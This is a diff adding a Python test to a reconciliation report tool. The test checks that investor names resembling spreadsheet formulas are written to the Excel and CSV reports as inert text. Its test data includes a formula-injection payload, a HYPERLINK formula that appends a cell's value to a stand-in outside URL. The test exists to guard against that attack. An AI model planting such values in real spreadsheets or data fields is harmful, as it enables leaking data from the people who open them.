@@ -1153,3 +1153,21 @@ def test_books_that_miss_redemptions_before_their_date_and_on_it_are_told_in_one
         "that date itself 2 units were redeemed, which books of that date may or may not show: if the books booked "
         "none of them, that would be the difference."
     ]
+
+
+def test_the_reports_files_hold_text_that_looks_like_a_formula_as_text(tmp_path: Path) -> None:
+    """Review 93: a name from the books (or the registry) written '=HYPERLINK(...)' was a live formula in the
+    report's Excel file and began with '=' in its CSV file."""
+    formula = '=HYPERLINK("https://example.invalid/?id="&B2,"Peter")'
+    ledger = pd.DataFrame(
+        [{"investor_id": "a", "product_id": "p", "units": 9, "investor_ref": "=1+1", "investor_name": formula}]
+    )
+    report = reconcile.compare(
+        ledger, delivered(10, 10, "2026-11-01"), pd.DataFrame(), timedelta(days=3), datetime(2026, 11, 28, tzinfo=UTC)
+    )
+    sheet = openpyxl.load_workbook(report.to_excel(tmp_path / "r.xlsx"))["differences"]
+    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row}
+    assert cells[formula] == "s" and cells["=1+1"] == "s"  # text, shown as written
+    assert not [value for value, kind in cells.items() if kind == "f"]
+    written = pd.read_csv(report.to_csv(tmp_path / "r.csv"), dtype=str)
+    assert written.loc[0, "investor_name"] == "'" + formula and written.loc[0, "investor_ref"] == "'=1+1"
